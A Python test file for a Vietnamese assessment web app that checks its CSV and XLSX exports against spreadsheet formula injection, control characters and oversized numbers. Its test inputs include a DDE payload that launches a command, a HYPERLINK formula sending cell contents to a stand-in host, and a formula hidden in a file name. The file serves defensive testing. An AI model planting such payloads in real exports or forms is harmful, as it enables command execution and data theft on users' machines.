"""Exports never run what users typed: text that a spreadsheet would read as a formula comes back as
text from the history CSV and the self-assessment XLSX, built from what was saved through the app;
characters XML cannot hold and numbers a spreadsheet cannot hold do not break the XLSX."""
import csv
import io

from openpyxl import load_workbook

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
NAMED = "=HYPERLINK(A1;B1).pdf"
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _save_explanation(client, assessment_id, code, text):
    response = client.post(f"/danh-gia/{assessment_id}/chi-tieu/{code}/giai-trinh", data={"explanation": text})
    assert response.status_code == 200, response.get_data(as_text=True)[:300]


def _cells(response):
    assert response.status_code == 200
    assert response.headers["Content-Type"] == XLSX
    wb = load_workbook(io.BytesIO(response.data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _upload(client, assessment_id, code, name):
    response = client.post(f"/danh-gia/{assessment_id}/chi-tieu/{code}/minh-chung",
                           data={"file": (io.BytesIO(b"%PDF-1.4\n%%EOF\n"), name)},
                           headers={"HX-Request": "true"}, content_type="multipart/form-data")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]


def test_formula_text_comes_back_as_text_from_the_xlsx(world, login, client):
    a = world.nghi_thu_assessment
    login("nghithu")
    codes = ["TC01.1", "TC01.2", "TC01.3", "TC02.1", "TC02.2", "TC02.3"]
    for code, text in zip(codes, PAYLOADS):
        _save_explanation(client, a.id, code, text)
    _upload(client, a.id, "TC02.4", NAMED)      # a file name opens its cell
    cells = _cells(client.get(f"/danh-gia/{a.id}/bao-cao.xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    evidence = [str(c.value) for c in cells if isinstance(c.value, str)]
    for text in PAYLOADS:
        cell = next((c for c in cells if isinstance(c.value, str) and text.strip() in c.value), None)
        assert cell is not None, (text, evidence)
        assert cell.data_type == "s"
    named = next((c for c in cells if isinstance(c.value, str) and c.value.startswith(NAMED)), None)
    assert named is not None, [e for e in evidence if "HYPERLINK" in e]
    assert named.data_type == "s" and named.quotePrefix     # stays text when the cell is edited


def test_formula_text_comes_back_quoted_from_the_history_csv(world, login, client):
    a = world.nghi_thu_assessment
    login("nghithu")
    for code, text in zip(["TC01.1", "TC01.2", "TC01.3", "TC02.1", "TC02.6", "TC02.7"], PAYLOADS):
        _save_explanation(client, a.id, code, text)
    response = client.get(f"/danh-gia/{a.id}/lich-su.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    for text in PAYLOADS:
        assert "'" + text.strip() in cells, (text, cells)     # saved explanations are trimmed
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_a_user_name_that_looks_like_a_formula_is_text_in_the_csv(world, login, client):
    from criteria_app.extensions import db
    world.users["nghithu"].full_name = "=1+2"
    db.session.commit()
    login("nghithu")
    _save_explanation(client, world.nghi_thu_assessment.id, "TC01.1", "Hồ sơ lưu tại bộ phận một cửa")
    rows = list(csv.reader(io.StringIO(client.get(f"/danh-gia/{world.nghi_thu_assessment.id}/lich-su.csv")
                                       .get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][1] == "'=1+2"


def test_control_characters_and_huge_counts_do_not_break_the_xlsx(world, login, client):
    from criteria_app.extensions import db
    from criteria_app.models import Answer
    a = world.nghi_thu_assessment
    # rows stored before input had bounds (counts ≤ 999.999.999, control characters removed at the door):
    # the spreadsheet must still open
    db.session.add_all([
        Answer(assessment_id=a.id, item_code="TC02.2", value="9" * 4300),
        Answer(assessment_id=a.id, item_code="TC02.6", value=str(10 ** 16 + 1)),   # 17 digits: a spreadsheet keeps 15
        Answer(assessment_id=a.id, item_code="TC01.1", explanation="Dòng một\x01\x08\x0b\x1f dòng hai\x7f")])
    db.session.commit()
    login("nghithu")
    cells = _cells(client.get(f"/danh-gia/{a.id}/bao-cao.xlsx"))
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "Giải trình: Dòng một dòng hai" in texts
    assert not any(ch in t for t in texts for ch in "\x01\x08\x0b\x1f\x7f")
    assert "9" * 4300 in texts, [t[:50] for t in texts]                          # kept whole, as text
    assert str(10 ** 16 + 1) in texts
    numbers = [c.value for c in cells if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
    assert all(abs(n) < 10 ** 15 for n in numbers)
